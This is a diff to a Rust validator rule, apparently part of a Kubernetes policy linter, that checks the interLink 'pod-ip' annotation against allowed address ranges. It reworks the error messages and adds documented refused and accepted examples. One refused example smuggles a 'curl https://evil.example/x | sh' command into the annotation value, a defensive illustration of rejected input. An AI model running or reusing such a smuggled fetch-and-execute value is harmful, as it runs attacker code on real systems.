@@ -23,7 +23,23 @@
 //! ## How to mend it
 //!
 //! Leave the annotation out, and interLink picks an address if the VPN is on. To ask for one, write a free address of
-//! your virtual node's range, and nothing else:
+//! your virtual node's range, and nothing else. The examples are judged with `podIP.cidrs: [10.244.0.0/16]`.
+//!
+//! ## Refused
+//!
+//! ```yaml
+//! metadata:
+//!   annotations:
+//!     interlink.eu/pod-ip: "10.244.1.100; curl https://evil.example/x | sh"
+//! ```
+//!
+//! ```yaml
+//! metadata:
+//!   annotations:
+//!     interlink.eu/pod-ip: "10.96.0.10"
+//! ```
+//!
+//! ## Accepted
 //!
 //! ```yaml
 //! metadata:
@@ -36,27 +52,25 @@ use std::net::IpAddr;
 
 use ipnet::IpNet;
 
-use super::{Finding, Rule};
+use super::{Finding, OF_PODS, Rule};
 use crate::annotations::{POD_IP, POD_VPN};
 use crate::kind::Carries;
 use crate::settings::{Level, PodIp, Settings};
 use crate::subject::{Hand, Subject};
-use crate::text::quote;
+use crate::text::{first_of, quote};
 
 pub(super) const RULE: Rule = Rule {
     id: "pod-ip",
     refuses: "`pod-ip` that is not exactly an IP address, is outside the configured ranges, or reserved in one",
     default_level: Level::Deny,
     about_writers: false,
+    subjects: OF_PODS,
     check,
 };
 
-/// How many ranges a message names.
-const MOST_RANGES: usize = 3;
-
 fn check<'s>(subject: &'s Subject<'_>, settings: &Settings<'_>) -> Vec<Finding<'s>> {
     let has_vpn = subject.get(POD_VPN).is_some();
-    let is_pod = subject.kind.carries == Carries::Pod;
+    let is_pod = subject.place.carries == Carries::Pod;
     let wrong = subject.get(POD_IP).and_then(|annotation| {
         let judged = match annotation.hand {
             // On a pod with the VPN, interLink writes here the address that it gave out, from a range of its own.
@@ -81,21 +95,23 @@ fn judge(text: &str, allowed: &PodIp) -> Result<(), (String, String)> {
     let address = parse(text, allowed)?;
     if allowed.cidrs.is_empty() {
         return Err((
-            "may not be asked for, since the policy's podIP.cidrs names no range".to_owned(),
-            "remove it, or have the range added".to_owned(),
+            "may not be asked for, since this cluster's policy allows no range of addresses".to_owned(),
+            "remove it, or have your range added to the policy's podIP.cidrs".to_owned(),
         ));
     }
-    let ranges = || allowed.cidrs.iter().copied();
-    if !ranges().any(|range| range.contains(&address)) {
-        return Err(("is outside the allowed ranges".to_owned(), format!("ask for an address in {}", list(ranges()))));
+    let mut around = allowed.cidrs.iter().filter(|range| range.contains(&address)).peekable();
+    if around.peek().is_none() {
+        return Err((
+            "is outside the allowed ranges".to_owned(),
+            format!("ask for an address in {}", list(&allowed.cidrs)),
+        ));
     }
-    let mut around = ranges().filter(|range| range.contains(&address));
     if !allowed.allow_reserved
         && let Some(range) = around.find(|range| is_reserved(address, range))
     {
         return Err((
             format!("is reserved in {range}"),
-            "ask for one that is neither of the first two nor the last".to_owned(),
+            "ask for one that is not among the first two or the last of it".to_owned(),
         ));
     }
     if let (IpAddr::V4(address), Some(octets)) = (address, allowed.octet_range) {
@@ -112,7 +128,7 @@ fn judge(text: &str, allowed: &PodIp) -> Result<(), (String, String)> {
 
 /// The address, if the text is one as Go reads it and IPv4 only where it is written so.
 fn parse(text: &str, allowed: &PodIp) -> Result<IpAddr, (String, String)> {
-    let address = text.parse().map_err(|_| ("is not an IP address".to_owned(), example(allowed)))?;
+    let address = text.parse().map_err(|_| ("is not an IP address".to_owned(), instead(text, allowed)))?;
     let IpAddr::V6(address) = address else {
         return Ok(address);
     };
@@ -126,11 +142,13 @@ fn parse(text: &str, allowed: &PodIp) -> Result<IpAddr, (String, String)> {
     Ok(address.into())
 }
 
-/// What to write in place of something else.
-fn example(allowed: &PodIp) -> String {
-    match allowed.cidrs.is_empty() {
-        true => "remove it".to_owned(),
-        false => format!("write an address in {}, and nothing else", list(allowed.cidrs.iter().copied())),
+/// What to write in place of something else: the address in it, if it is one with space around or a prefix length.
+fn instead(text: &str, allowed: &PodIp) -> String {
+    let meant = text.split('/').next().unwrap_or_default().trim();
+    match meant.parse::<IpAddr>() {
+        Ok(_) => format!("write {meant}, and nothing else"),
+        Err(_) if allowed.cidrs.is_empty() => "remove it".to_owned(),
+        Err(_) => format!("write an address in {}, and nothing else", list(&allowed.cidrs)),
     }
 }
 
@@ -146,14 +164,10 @@ fn is_reserved(address: IpAddr, range: &IpNet) -> bool {
     }
 }
 
-/// The first ranges, and how many more there are.
-fn list(ranges: impl ExactSizeIterator<Item = IpNet>) -> String {
-    let more = ranges.len().saturating_sub(MOST_RANGES);
-    let shown: Vec<String> = ranges.take(MOST_RANGES).map(|range| range.to_string()).collect();
-    match more {
-        0 => shown.join(", "),
-        more => format!("{} and {more} more", shown.join(", ")),
-    }
+/// The ranges, for a message.
+fn list(ranges: &[IpNet]) -> String {
+    let ranges: Vec<_> = ranges.iter().map(IpNet::to_string).collect();
+    first_of(&ranges)
 }
 
 #[cfg(test)]
@@ -240,7 +254,7 @@ mod tests {
 
     #[test]
     fn without_a_range_every_address_is_refused() {
-        assert!(problem("10.244.1.5", "{}").contains("podIP.cidrs names no range"));
+        assert!(problem("10.244.1.5", "{}").contains("allows no range of addresses"));
     }
 
     #[test]
